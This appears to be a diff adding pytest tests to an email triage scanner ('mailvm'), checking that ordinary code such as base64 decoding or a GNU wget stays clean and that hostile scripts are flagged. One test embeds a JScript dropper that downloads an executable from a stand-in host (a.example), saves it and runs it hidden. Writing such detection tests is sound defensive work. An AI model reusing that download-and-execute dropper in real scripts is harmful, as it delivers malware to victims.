@@ -12,6 +12,7 @@ import pytest
 
 from mailvm.config import TriageConfig
 from mailvm.triage import Triage, script
+from mailvm.verdict import score_findings
 from triage_helpers import art, ids
 
 
@@ -122,3 +123,44 @@ def test_regexes_stay_linear_on_hostile_text():
     t0 = time.monotonic()
     script.text_findings(hostile)
     assert time.monotonic() - t0 < 10  # normally well under a second
+
+
+# -- false positives on ordinary programs (issue 10 item 3) -----------------------------------
+
+
+@pytest.mark.parametrize("text", [
+    "import base64\ndef decode(s):\n    return base64.b64decode(s)\n",           # a codec module
+    "def run_once(self):\n    self.loop.run_once', 0)\n",                         # .run_once(..., 0) is no .Run
+    "code = compile(src, 'x', 'exec')\nexec(code, ns)\n",                         # a debugger's eval
+    "ssh-copy-id adds the key to ~/.ssh/authorized_keys\n",                        # an admin tool
+    "wget https://ftp.gnu.org/gnu/gettext/gettext-0.21.tar.gz\n",                  # an installer downloads
+])
+def test_single_ordinary_capability_is_not_suspicious(text):
+    found = script.text_findings(text)
+    verdict, _score = score_findings(found)
+    assert verdict == "clean", found
+
+
+def test_python_standard_library_modules_are_clean(tmp_path):
+    import glob
+    import sysconfig
+
+    stdlib = sysconfig.get_paths()["stdlib"]
+    flagged = []
+    for path in sorted(glob.glob(f"{stdlib}/*.py")):
+        with open(path, encoding="utf-8", errors="replace") as fh:
+            found = script.text_findings(fh.read())
+        if score_findings(found)[0] != "clean":
+            flagged.append((path, sorted({f.id for f in found if f.severity >= 4})))
+    assert flagged == []
+
+
+def test_weak_capabilities_together_are_suspicious_and_a_dropper_is_malicious():
+    dropper = ('var x = new ActiveXObject("MSXML2.XMLHTTP"); x.open("GET", "http://a.example/p.exe", false); x.send();\n'
+               'var s = new ActiveXObject("ADODB.Stream"); s.Open(); s.Write(x.responseBody); s.SaveToFile(p, 2);\n'
+               'new ActiveXObject("WScript.Shell").Run(p, 0);\n')
+    assert score_findings(script.text_findings(dropper))[0] == "malicious"
+    half = ('var x = new ActiveXObject("MSXML2.XMLHTTP"); x.open("GET", u); x.send();\n'
+            'var s = new ActiveXObject("ADODB.Stream"); s.SaveToFile(p, 2);\n')
+    ids = {f.id for f in script.text_findings(half)}
+    assert "script_download_save" in ids and score_findings(script.text_findings(half))[0] == "suspicious"
